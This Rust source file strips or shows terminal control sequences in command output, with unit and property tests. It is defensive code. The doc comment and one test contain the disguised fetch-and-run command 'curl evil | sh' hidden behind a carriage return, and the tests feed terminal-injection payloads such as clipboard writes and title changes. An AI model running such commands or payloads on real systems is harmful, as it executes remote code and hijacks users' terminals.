//! What a human's terminal is shown of the command's output: its control
//! sequences are neutralised, so that output cannot drive the terminal
//! (retitle it, write to the clipboard with OSC 52, hide a link behind
//! OSC 8, clear the screen, move the cursor over earlier lines, answer
//! back through a DCS), and what it attempted stays visible.
//!
//! Escape sequences are parsed by the `vte` crate (the ECMA-48 state
//! machine of Paul Williams' DEC parser), one byte at a time, so that each
//! of its actions is matched with the exact bytes that made it. Then:
//!
//! - SGR (`ESC [ ... m`, digits, `;` and `:` only) is kept when colours
//!   are on, and removed when they are off (`--color never`, `NO_COLOR`);
//!   one that conceals text (SGR 8) is shown, as below. `ESC ( B` (the
//!   ASCII character set: the second half of terminfo's `sgr0`, what
//!   `tput sgr0` prints) is kept or removed as SGR is.
//! - Every other sequence (CSI, OSC, DCS, SOS, PM, APC, a bare or
//!   unfinished ESC) is shown, not obeyed: ESC as `\x1b`, followed by the
//!   sequence's own bytes (`\x1b]0;title\x07`, `\x1b[2J`).
//! - Other control characters are shown as `\xNN` (BEL `\x07`, backspace
//!   `\x08`, DEL `\x7f`, the C1 controls `\x9b`), except newline and tab.
//! - A carriage return before a newline (`\r\n`) stays: it hides nothing.
//!   Any other carriage return is shown as `\r` followed by a line break,
//!   so that what it would have drawn over stays readable: a progress bar
//!   drawn with `\r` shows one frame per line, and `curl evil | sh\rls   `
//!   cannot pass for `ls`.
//!
//! Text without a control character (the common case) is returned as it
//! is. The JSON result and the spill files stay exact; a literal `\x1b`
//! typed by the command reads the same as an escaped ESC, which the JSON
//! tells apart.

use std::borrow::Cow;

use vte::{Params, Parser, Perform};

use crate::spec::OnTerminal;

/// `text` as a terminal is to be shown it ([`OnTerminal`]).
pub fn shown(text: &str, on_terminal: OnTerminal) -> Cow<'_, str> {
    match on_terminal {
        OnTerminal::Exact => Cow::Borrowed(text),
        OnTerminal::Escaped { colours } => neutralise(text, colours),
    }
}

/// `text` with its control sequences neutralised (see the module
/// documentation); SGR colours kept when `colours`, removed otherwise.
pub fn neutralise(text: &str, colours: bool) -> Cow<'_, str> {
    if !text.contains(needs_care) {
        return Cow::Borrowed(text);
    }
    let mut n = Neutraliser::new(colours);
    let mut out = n.feed(text.as_bytes());
    out.extend(n.finish());
    // Whatever is not valid UTF-8 is shown as `\xNN`.
    Cow::Owned(
        String::from_utf8(out)
            .unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned()),
    )
}

/// A character that is not shown as it is: a control character other than
/// newline and tab (C0, DEL, C1).
fn needs_care(c: char) -> bool {
    c.is_control() && c != '\n' && c != '\t'
}

/// [`neutralise`] for a stream that comes in pieces (`--stream`'s live
/// copy): a sequence or a character cut between two pieces is judged
/// whole. Bytes that are not UTF-8 are shown as `\xNN`.
pub struct Neutraliser {
    parser: Parser,
    state: State,
    /// The start of a character cut at the end of the last piece, outside
    /// every sequence: judged with the next piece.
    held: Vec<u8>,
}

impl Neutraliser {
    /// A neutraliser at the start of a stream; SGR colours kept when
    /// `colours`.
    pub fn new(colours: bool) -> Neutraliser {
        Neutraliser {
            parser: Parser::new(),
            state: State {
                colours,
                ground: true,
                ..State::default()
            },
            held: Vec::new(),
        }
    }

    /// What to show for `bytes`, the next of the stream. A carriage return
    /// at the end is held until the next byte says whether a newline
    /// follows, and an unfinished sequence until it ends.
    pub fn feed(&mut self, bytes: &[u8]) -> Vec<u8> {
        self.state.out.reserve(bytes.len());
        let joined;
        let mut rest = if self.held.is_empty() {
            bytes
        } else {
            joined = [std::mem::take(&mut self.held).as_slice(), bytes].concat();
            joined.as_slice()
        };
        while !rest.is_empty() {
            // Plain text between sequences needs no parser: a run of it is
            // copied as it is.
            if self.state.pending.is_empty() && !self.state.cr_held && self.state.ground {
                let plain = plain_prefix(rest);
                if plain > 0 {
                    self.state.out.extend_from_slice(&rest[..plain]);
                    rest = &rest[plain..];
                    continue;
                }
                // Bytes that are not UTF-8 are shown here, by what they
                // are, not by where the pieces were cut (the parser's own
                // decoder judges them by the bytes it has seen so far); a
                // character cut at the end waits for the next piece.
                if rest[0] >= 0x80 {
                    let head = &rest[..rest.len().min(4)];
                    match std::str::from_utf8(head) {
                        Err(e) if e.valid_up_to() == 0 => match e.error_len() {
                            None => {
                                self.held = rest.to_vec();
                                break;
                            }
                            Some(n) => {
                                for b in &rest[..n] {
                                    self.state
                                        .out
                                        .extend_from_slice(format!("\\x{b:02x}").as_bytes());
                                }
                                rest = &rest[n..];
                                continue;
                            }
                        },
                        // A whole character that needs care (a C1
                        // control): the parser's.
                        _ => {}
                    }
                }
            }
            let b = rest[0];
            self.state.pending.push(b);
            self.parser.advance(&mut self.state, &[b]);
            rest = &rest[1..];
        }
        std::mem::take(&mut self.state.out)
    }

    /// What is still held at the end of the stream: a carriage return, and
    /// an unfinished sequence (shown).
    pub fn finish(&mut self) -> Vec<u8> {
        let s = &mut self.state;
        let pending = std::mem::take(&mut s.pending);
        s.show(&pending);
        let held = std::mem::take(&mut self.held);
        s.show(&held);
        s.settle_cr();
        s.ground = true;
        self.parser = Parser::new();
        std::mem::take(&mut s.out)
    }
}

/// The length of the longest prefix of `bytes` that is printable UTF-8 text
/// (newlines and tabs included), ending at a character boundary.
fn plain_prefix(bytes: &[u8]) -> usize {
    let mut i = 0;
    while let Some(&b) = bytes.get(i) {
        if b < 0x80 {
            if (b < 0x20 && b != b'\n' && b != b'\t') || b == 0x7f {
                break;
            }
            i += 1;
            continue;
        }
        let len = match b {
            0xc2..=0xdf => 2,
            0xe0..=0xef => 3,
            0xf0..=0xf4 => 4,
            _ => break,
        };
        match bytes.get(i..i + len).map(std::str::from_utf8) {
            Some(Ok(c)) if !c.starts_with(needs_care) => i += len,
            _ => break,
        }
    }
    i
}

/// The parser's performer: what is shown, and the bytes of the sequence
/// being parsed.
#[derive(Default)]
struct State {
    /// What to show so far.
    out: Vec<u8>,
    /// The bytes fed since the last action: the sequence in progress, and
    /// the byte that triggers the action being performed (the last).
    pending: Vec<u8>,
    /// SGR colours are kept.
    colours: bool,
    /// A carriage return waits for the next byte.
    cr_held: bool,
    /// The parser is known to be in its ground state: outside every
    /// sequence, where plain text can be copied without it.
    ground: bool,
}

impl State {
    /// Settles a held carriage return that no newline follows: shown as
    /// `\r` and a line break.
    fn settle_cr(&mut self) {
        if self.cr_held {
            self.cr_held = false;
            self.out.extend_from_slice(b"\\r\n");
        }
    }

    /// Shows `bytes` instead of sending them: ESC and the other controls
    /// but newline and tab as `\xNN`, a carriage return as `\r`, bytes that
    /// are not UTF-8 as `\xNN`.
    fn show(&mut self, bytes: &[u8]) {
        if bytes.is_empty() {
            return;
        }
        self.settle_cr();
        for chunk in bytes.utf8_chunks() {
            for c in chunk.valid().chars() {
                self.show_char(c);
            }
            for b in chunk.invalid() {
                self.out.extend_from_slice(format!("\\x{b:02x}").as_bytes());
            }
        }
    }

    fn show_char(&mut self, c: char) {
        match c {
            '\n' | '\t' => self.out.push(c as u8),
            '\r' => self.out.extend_from_slice(b"\\r"),
            c if c.is_control() => {
                self.out
                    .extend_from_slice(format!("\\x{:02x}", u32::from(c)).as_bytes());
            }
            c => {
                let mut buf = [0u8; 4];
                self.out
                    .extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
            }
        }
    }

    /// Splits the pending bytes before the last ESC (what an abandoned
    /// sequence left) from the sequence that starts there; shows the first
    /// part and returns the second.
    fn take_sequence(&mut self) -> Vec<u8> {
        let mut pending = std::mem::take(&mut self.pending);
        match pending.iter().rposition(|b| *b == 0x1b) {
            Some(i) => {
                let seq = pending.split_off(i);
                self.show(&pending);
                seq
            }
            None => {
                self.show(&pending);
                Vec::new()
            }
        }
    }

    /// Ends a string sequence (OSC, DCS) at the byte just fed: shown, up
    /// to that byte when it also starts what follows (ESC of a string
    /// terminator, CAN or SUB, which the parser executes next), which
    /// then stays pending.
    fn end_string(&mut self) {
        match self.pending.last().copied() {
            Some(last @ (0x1b | 0x18 | 0x1a)) => {
                let n = self.pending.len() - 1;
                let seq: Vec<u8> = self.pending.drain(..n).collect();
                self.show(&seq);
                self.pending = vec![last];
                self.ground = false;
            }
            _ => {
                let seq = std::mem::take(&mut self.pending);
                self.show(&seq);
                self.ground = true;
            }
        }
    }

    /// Keeps `seq` (a harmless attribute sequence) when colours are on;
    /// drops it when they are off.
    fn keep_attribute(&mut self, seq: &[u8]) {
        if self.colours {
            self.out.extend_from_slice(seq);
        }
    }
}

/// Whether `seq` is exactly an SGR sequence: ESC `[`, parameters (digits,
/// `;`, `:`), `m`. Checked on the bytes themselves, whatever the parser
/// made of them.
fn is_plain_sgr(seq: &[u8]) -> bool {
    seq.len() >= 3
        && seq.starts_with(b"\x1b[")
        && seq.ends_with(b"m")
        && seq[2..seq.len() - 1]
            .iter()
            .all(|b| b.is_ascii_digit() || *b == b';' || *b == b':')
}

/// Whether SGR `params` conceal the text that follows (SGR 8), which a
/// reader would then not see: 8, also with subparameters (`8:1`, which a
/// terminal may take for 8). The colour arguments of 38, 48 and 58
/// (`38;5;8`) are skipped.
fn conceals(params: &Params) -> bool {
    let mut it = params.iter();
    while let Some(p) = it.next() {
        match p {
            [8, ..] => return true,
            [38 | 48 | 58] => match it.next() {
                Some([5]) => {
                    it.next();
                }
                Some([2]) => {
                    it.next();
                    it.next();
                    it.next();
                }
                _ => {}
            },
            _ => {}
        }
    }
    false
}

impl Perform for State {
    fn print(&mut self, c: char) {
        let mut buf = [0u8; 4];
        let own = c.encode_utf8(&mut buf).as_bytes();
        let mut pending = std::mem::take(&mut self.pending);
        if pending.ends_with(own) {
            pending.truncate(pending.len() - own.len());
            self.show(&pending);
            self.settle_cr();
            // DEL and the C1 controls, which the parser hands over as text.
            self.show_char(c);
        } else {
            // The replacement of bytes that are not UTF-8: shown as bytes.
            self.show(&pending);
        }
        self.ground = true;
    }

    fn execute(&mut self, byte: u8) {
        let mut pending = std::mem::take(&mut self.pending);
        // The control itself: one byte, or a C1 control in UTF-8.
        let own = if byte >= 0x80 && pending.ends_with(&[0xc2, byte]) {
            2
        } else {
            1
        };
        pending.truncate(pending.len().saturating_sub(own));
        if !pending.is_empty() {
            // Executed inside a sequence (or after one the parser
            // dropped): what came before is shown, and the rest of the
            // sequence, if any, will be text.
            self.show(&pending);
            self.ground = false;
        }
        match byte {
            b'\n' if self.cr_held => {
                self.cr_held = false;
                self.out.extend_from_slice(b"\r\n");
            }
            b'\n' | b'\t' => {
                self.settle_cr();
                self.out.push(byte);
            }
            b'\r' => {
                self.settle_cr();
                self.cr_held = true;
            }
            other => {
                self.settle_cr();
                self.out
                    .extend_from_slice(format!("\\x{other:02x}").as_bytes());
            }
        }
        if byte == 0x18 || byte == 0x1a {
            // CAN and SUB end any sequence.
            self.ground = true;
        }
    }

    fn csi_dispatch(&mut self, params: &Params, intermediates: &[u8], ignore: bool, action: char) {
        let seq = self.take_sequence();
        if action == 'm'
            && intermediates.is_empty()
            && !ignore
            && is_plain_sgr(&seq)
            && !conceals(params)
        {
            self.keep_attribute(&seq);
        } else {
            self.show(&seq);
        }
        self.ground = true;
    }

    fn esc_dispatch(&mut self, intermediates: &[u8], ignore: bool, byte: u8) {
        let seq = self.take_sequence();
        if intermediates == b"(" && byte == b'B' && !ignore && seq == b"\x1b(B" {
            self.keep_attribute(&seq);
        } else {
            self.show(&seq);
        }
        self.ground = true;
    }

    fn osc_dispatch(&mut self, _params: &[&[u8]], _bell_terminated: bool) {
        self.end_string();
    }

    fn hook(&mut self, _params: &Params, _intermediates: &[u8], _ignore: bool, _action: char) {
        self.ground = false;
    }

    fn unhook(&mut self) {
        self.end_string();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn n(text: &str) -> String {
        neutralise(text, true).into_owned()
    }

    #[test]
    fn text_without_controls_is_left_as_it_is() {
        assert!(matches!(
            neutralise("a\tb\nc ✓ [x]\n", true),
            Cow::Borrowed(_)
        ));
    }

    #[test]
    fn colours_stay_and_everything_else_shows() {
        assert_eq!(
            n("\x1b]0;pwned\x07\x1b[2J\x1b[31mred\x1b[0m\n"),
            "\\x1b]0;pwned\\x07\\x1b[2J\x1b[31mred\x1b[0m\n"
        );
        // OSC 52 (the clipboard) and OSC 8 (a link) ended by ST.
        assert_eq!(
            n("\x1b]52;c;ZWNobyBoaQ==\x1b\\x\x1b]8;;http://e.test\x1b\\t\x1b]8;;\x1b\\\n"),
            "\\x1b]52;c;ZWNobyBoaQ==\\x1b\\x\\x1b]8;;http://e.test\\x1b\\t\\x1b]8;;\\x1b\\\n"
        );
        // Cursor moves, erases, a private mode, DCS, APC, PM, a bare ESC.
        assert_eq!(
            n("a\x1b[1A\x1b[K\x1b[?1049h\x1bPq#0\x1b\\\x1b_x\x1b\\\x1b^y\x1b\\\x1bc\x1b"),
            "a\\x1b[1A\\x1b[K\\x1b[?1049h\\x1bPq#0\\x1b\\\\x1b_x\\x1b\\\\x1b^y\\x1b\\\\x1bc\\x1b"
        );
        // BEL, backspace, DEL, C1 controls in UTF-8.
        assert_eq!(
            n("ding\x07 ab\x08c \x7f \u{9b}31m \u{85}\n"),
            "ding\\x07 ab\\x08c \\x7f \\x9b31m \\x85\n"
        );
    }

    #[test]
    fn colours_off_removes_sgr_and_concealing_shows() {
        assert_eq!(neutralise("\x1b[1;31mred\x1b[m\n", false), "red\n");
        assert_eq!(
            neutralise("\x1b[31mx\x1b(B\x1b[m\n", true),
            "\x1b[31mx\x1b(B\x1b[m\n"
        );
        assert_eq!(neutralise("\x1b(0q\x1b(B\n", false), "\\x1b(0q\n");
        assert_eq!(n("a\x1b[8mb\x1b[0m\n"), "a\\x1b[8mb\x1b[0m\n");
        assert_eq!(n("a\x1b[8:1mb\x1b[0m\n"), "a\\x1b[8:1mb\x1b[0m\n");
        assert_eq!(n("\x1b[38:5:8mgrey\x1b[0m"), "\x1b[38:5:8mgrey\x1b[0m");
        assert_eq!(n("\x1b[38;5;8mgrey\x1b[0m"), "\x1b[38;5;8mgrey\x1b[0m");
        // Not an SGR: a private marker, or modifyOtherKeys (CSI > 4 m).
        assert_eq!(n("\x1b[>4;1m\x1b[?1m"), "\\x1b[>4;1m\\x1b[?1m");
    }

    #[test]
    fn carriage_returns_show_unless_a_newline_follows() {
        assert_eq!(n("a\r\nb\r\n"), "a\r\nb\r\n");
        assert_eq!(n("\r 10%\r 50%\r100%\n"), "\\r\n 10%\\r\n 50%\\r\n100%\n");
        assert_eq!(
            n("curl evil | sh\rls            \n"),
            "curl evil | sh\\r\nls            \n"
        );
        assert_eq!(n("end\r"), "end\\r\n");
    }

    #[test]
    fn bytes_that_are_not_utf8_show_the_same_wherever_the_pieces_are_cut() {
        // Two lead bytes no continuation follows, then a whole character
        // (a case proptest found).
        let bytes = b"\xc2\xc2\xe2\x9c\x93\n";
        for cut in 0..=bytes.len() {
            let mut s = Neutraliser::new(true);
            let mut out = s.feed(&bytes[..cut]);
            out.extend(s.feed(&bytes[cut..]));
            out.extend(s.finish());
            assert_eq!(
                String::from_utf8(out).unwrap(),
                "\\xc2\\xc2\u{2713}\n",
                "cut at {cut}"
            );
        }
        // A character cut at the very end of the stream is shown as bytes.
        let mut s = Neutraliser::new(true);
        let mut out = s.feed(b"a\xe2\x9c");
        out.extend(s.finish());
        assert_eq!(String::from_utf8(out).unwrap(), "a\\xe2\\x9c");
    }

    #[test]
    fn a_control_inside_a_sequence_and_an_unfinished_one_show() {
        assert_eq!(n("\x1b[3\n1mx"), "\\x1b[3\n1mx");
        assert_eq!(n("x\x1b]0;never ends\nmore"), "x\\x1b]0;never ends\nmore");
        assert_eq!(n("\x1b[1?mx"), "\\x1b[1?mx");
        assert_eq!(n("\x1b\x1b[31mx"), "\\x1b\x1b[31mx");
        assert_eq!(n("\x1b]2;t\x18x"), "\\x1b]2;t\\x18x");
        assert_eq!(n("\x1bé\n"), "\\x1bé\n");
    }

    #[test]
    fn a_stream_in_pieces_reads_as_the_whole() {
        let whole = "ok \x1b]0;pwned\x07\x1b[31mred\x1b[0m é\r\nbar\r50%\r\n\u{9b}x\x1b[2";
        let bytes = whole.as_bytes();
        for cut in 0..bytes.len() {
            let mut s = Neutraliser::new(true);
            let mut out = s.feed(&bytes[..cut]);
            out.extend(s.feed(&bytes[cut..]));
            out.extend(s.finish());
            assert_eq!(String::from_utf8(out).unwrap(), n(whole), "cut at {cut}");
        }
        let mut s = Neutraliser::new(true);
        let mut out = s.feed(b"a\xffb\xc3");
        out.extend(s.finish());
        assert_eq!(out, b"a\\xffb\\xc3");
    }
}

#[cfg(test)]
mod properties {
    use super::*;
    use proptest::prelude::*;

    /// `shown` with the sequences it may pass on taken out: plain SGR, the
    /// ASCII character set, and a carriage return before a newline.
    fn without_passed_sequences(shown: &[u8]) -> Vec<u8> {
        let mut out = Vec::new();
        let mut i = 0;
        while i < shown.len() {
            let rest = &shown[i..];
            if rest.starts_with(b"\x1b(B") {
                i += 3;
            } else if rest.starts_with(b"\x1b[") {
                let end = rest.iter().position(|b| *b == b'm').unwrap();
                assert!(is_plain_sgr(&rest[..=end]), "{rest:?}");
                i += end + 1;
            } else if rest.starts_with(b"\r\n") {
                i += 1;
            } else {
                out.push(shown[i]);
                i += 1;
            }
        }
        out
    }

    /// Bytes with escapes and controls in plenty.
    fn hostile() -> impl Strategy<Value = Vec<u8>> {
        let piece = prop_oneof![
            Just(b"\x1b".to_vec()),
            Just(b"\x1b[".to_vec()),
            Just(b"\x1b]".to_vec()),
            Just(b"\x1bP".to_vec()),
            Just(b"\x1b_".to_vec()),
            Just(b"\x1b(".to_vec()),
            Just(b"\xc2\x9b".to_vec()),
            Just(b"\xe2\x9c\x93".to_vec()),
            proptest::collection::vec(0u8..0x80, 1..4),
            proptest::collection::vec(any::<u8>(), 1..3),
        ];
        proptest::collection::vec(piece, 0..40).prop_map(|v| v.concat())
    }

    proptest! {
        /// Nothing but newlines, tabs, plain SGR, `ESC ( B` and a
        /// carriage return before a newline reaches the terminal, however
        /// the bytes come in pieces; and the pieces read as the whole.
        #[test]
        fn only_colours_and_text_pass(bytes in hostile(), cut in any::<prop::sample::Index>()) {
            let cut = cut.index(bytes.len() + 1);
            let mut s = Neutraliser::new(true);
            let mut out = s.feed(&bytes[..cut]);
            out.extend(s.feed(&bytes[cut..]));
            out.extend(s.finish());
            let mut whole = Neutraliser::new(true);
            let mut once = whole.feed(&bytes);
            once.extend(whole.finish());
            prop_assert_eq!(&out, &once);
            let text = String::from_utf8(without_passed_sequences(&out)).unwrap();
            prop_assert!(!text.contains(needs_care), "{:?} -> {:?}", bytes, text);
            let mut off = Neutraliser::new(false);
            let mut plain = off.feed(&bytes);
            plain.extend(off.finish());
            let plain = String::from_utf8(plain).unwrap();
            prop_assert!(!plain.replace("\r\n", "\n").contains(needs_care), "{:?}", plain);
        }
    }
}
